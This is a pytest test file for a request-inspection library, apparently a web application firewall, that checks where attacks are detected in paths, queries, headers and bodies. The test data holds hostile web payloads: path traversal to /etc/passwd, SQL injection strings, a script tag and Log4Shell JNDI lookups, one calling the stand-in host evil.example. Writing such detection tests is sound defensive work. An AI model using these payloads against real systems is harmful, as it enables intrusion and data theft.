import pytest

from apiward.inspection.bodies import Place
from apiward.inspection.requests import MAX_HEADERS, inspect_header, inspect_path, inspect_request

SQL = "x' OR 'a'='a"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126 Safari/537.36"
HEADERS = [
    ("Host", "api.example.com"),
    ("User-Agent", BROWSER),
    ("Accept", "*/*;q=0.1"),
    ("Cookie", "sid=abc; theme=dark"),
    ("Content-Type", "application/json"),
]


@pytest.mark.parametrize(
    ("target", "header", "body", "expected"),
    [
        ("/a/..%2f..%2fetc/passwd", None, b"", ("path",)),
        ("/a?q=x%27%20OR%20%27a%27=%27a", None, b"", ("query", "q")),
        ("/a?%3Cscript%3Ealert(1)", None, b"", ("query", "")),
        ("/a", ("X-Api-Version", "${jndi:ldap://evil.example/a}"), b"", ("header", "x-api-version")),
        ("/a", ("Cookie", "a=1; b=1 UNION SELECT 2,3"), b"", ("header", "cookie")),
        ("/a", None, b'{"n": "1 UNION SELECT 2,3"}', ("body", "n")),
        ("/a/b?x=1&y=O%27Neil", None, b'{"n": "O\'Neil"}', None),
        ("/", None, b"", None),
        ("*", None, b"", None),
    ],
)
def test_place_of_the_first_attack(
    target: str, header: tuple[str, str] | None, body: bytes, expected: Place | None
) -> None:
    found = inspect_request(target, [*HEADERS, *([header] if header else [])], body)

    assert (found[0] if found is not None else None) == expected


@pytest.mark.parametrize(
    "path",
    [
        "/v1/orders/12",
        "/v1/orders/12/items;v=2",
        "/files/report%20May.pdf",
        "/u/o'neil",
        "/a.b-c_d~e",
        "/search/rock%20%26%20roll",
        "/odata/Products('abc')/Name",
        "/odata/Orders(1)",
        "/@anna/posts",
        "/a/b/~c/d,e;f",
    ],
)
def test_ordinary_paths_pass(path: str) -> None:
    assert inspect_path(path) is None


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("user-agent", BROWSER),
        ("referer", "http://localhost:3000/a?b=c&d=e"),
        ("accept", SQL),
        ("authorization", SQL),
        ("x-request-id", "a-b-c"),
        ("x-amzn-trace-id", "Root=1-67891233-abcdef012345678912345678;Parent=463ac35c9f6413ad;Sampled=1"),
        ("via", "1.1 vegur, 1.0 fred (Apache/1.1)"),
        ("link", "<https://example.com/a>; rel=preload"),
        ("x-csrf-token", "aB+/9=="),
        ("prefer", "return=minimal; wait=5"),
        ("x-forwarded-for", "10.0.0.1, 192.168.0.3"),
        ("forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
        ("origin", "http://localhost:5173"),
        ("cookie", "a=b=c; d; e=%7B%22f%22%3A1%7D"),
    ],
)
def test_ordinary_headers_pass(name: str, value: str) -> None:
    assert inspect_header(name, value) is None


def test_headers_are_bounded() -> None:
    assert inspect_request("/", [("x-a", "1")] * MAX_HEADERS + [("x-b", "${jndi:ldap://x/a}")], b"") is None
